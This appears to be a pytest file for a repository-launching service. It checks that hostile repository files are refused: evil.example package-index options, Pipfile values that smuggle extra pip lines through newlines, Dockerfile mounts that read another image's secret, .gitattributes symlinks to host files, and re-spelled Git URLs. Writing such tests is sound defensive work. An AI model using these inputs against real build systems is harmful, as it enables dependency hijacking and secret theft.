"""What a hostile repository writes in its files, caught before anything runs (found by review):
quoted Dockerfile mount options, requirement options that fetch from elsewhere, Pipfile entries
that smuggle lines, .gitattributes links, re-spelled Git URLs."""

import os

import pytest

from binderspawner.builders import lfs
from binderspawner.builders.buildpacks.install import requirement_line
from binderspawner.builders.environment import EnvironmentRefused, check_indexes, nested_requirements
from binderspawner.builders.imagefence import referenced_images
from binderspawner.errors import LaunchError
from binderspawner.providers.git import parse_git_url

VICTIM = "binder-victim-abc:deadbeef"


@pytest.mark.parametrize("mount", [
    f"type=bind,from={VICTIM},target=/v",
    f'type=bind,"from={VICTIM}",target=/v',
    f"type=bind,'from={VICTIM}',target=/v",
    f'"type=bind","from={VICTIM}"',
])
def test_every_spelling_of_a_mount_source_is_seen(mount):
    assert VICTIM in referenced_images(f"FROM python:3.11\nRUN --mount={mount} cat /v/secret\n")


@pytest.mark.parametrize("text", [
    "--extra-index-url \\\n https://evil.example/simple",
    "-i\\\nhttps://evil.example/simple",
    "-f https://evil.example/links",
    "--find-links=https://evil.example/links",
    "--trusted-host evil.example",
    "-r https://evil.example/more.txt",
    "-c https://evil.example/constraints.txt",
])
def test_requirement_options_that_fetch_elsewhere_are_refused(text):
    with pytest.raises(EnvironmentRefused) as info:
        check_indexes(text, "requirements.txt", ["https://pypi.example.org/simple"])
    assert str(info.value).startswith("requirements.txt line 1:")


def test_the_admins_index_and_hash_continuations_pass():
    check_indexes("-i https://pypi.example.org/simple\nnumpy==1.0 \\\n  --hash=sha256:abc\n",
                  "requirements.txt", ["https://pypi.example.org/simple"])
    assert nested_requirements("-r \\\n  other.txt\n", "binder/requirements.txt") == ["binder/other.txt"]


@pytest.mark.parametrize("spec", [
    "==1.16.0\n--extra-index-url https://evil.example/simple",
    {"version": "==1.0\r-i https://evil.example/simple"},
    {"version": "--index-url=https://evil.example/simple"},
    {"version": "==1.0", "hashes": ["sha256:abc\n-f https://evil.example/"]},
])
def test_pipfile_entries_cannot_add_lines_or_options(spec):
    with pytest.raises(ValueError, match="six"):
        requirement_line("six", spec, "/repo")


def test_a_gitattributes_link_is_not_read(tmp_path):
    secret = tmp_path / "host-secret"
    secret.write_text("token filter=lfs\n")
    repo = tmp_path / "repo"
    (repo / "sub").mkdir(parents=True)
    os.symlink(secret, repo / ".gitattributes")
    os.symlink("/dev/zero", repo / "sub" / ".gitattributes")  # would never end
    assert lfs.tracked_paths(str(repo)) == []
    (repo / "data").mkdir()
    (repo / "data" / ".gitattributes").write_text("*.csv filter=lfs diff=lfs merge=lfs -text\n")
    assert lfs.tracked_paths(str(repo)) == ["*.csv"]


@pytest.mark.parametrize("url", ["https://example.org/org/./repo", "https://example.org/org/../org/repo",
                                 "https://example.org/org/%2e/repo", "https://example.org/org/%2E%2E/repo"])
def test_dot_segments_are_refused(url):
    with pytest.raises(LaunchError):
        parse_git_url(url, allowed_schemes=["https"], allowed_hosts=[])


def test_escaped_unreserved_characters_are_one_spelling():
    assert parse_git_url("https://example.org/%6Frg/%72epo", allowed_schemes=["https"],
                         allowed_hosts=[]) == "https://example.org/org/repo"
